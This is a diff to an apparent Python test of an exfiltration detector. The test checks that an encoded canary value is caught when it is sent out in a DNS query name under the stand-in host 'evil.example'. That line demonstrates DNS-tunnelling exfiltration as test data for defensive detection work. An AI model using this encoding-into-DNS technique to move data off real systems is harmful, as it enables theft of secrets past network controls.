@@ -162,8 +162,9 @@ def test_a_canary_is_found_in_every_spelling(spelling: int) -> None:
     assert "PG-PRB-003" in _ids(_observation(connections=(conn,)))
     # NOTE: hex and base32 in upper case, as a DNS name may come back.
     label = sent.decode().upper() if spelling in (1, 4) else sent.decode()
-    if spelling in (0, 1, 4):
-        query = DnsQuery(name=f"{label[:20]}.{label[20:]}.x.evil.example".lower(), qtype="A")
+    # NOTE: every spelling a DNS label can carry (base64's '+' and '/' cannot be in a name).
+    if spelling != 2:
+        query = DnsQuery(name=f"{label[:20]}.{label[20:]}.x.evil.example", qtype="A")
         assert "PG-PRB-003" in _ids(_observation(dns=(query,)))
 
 
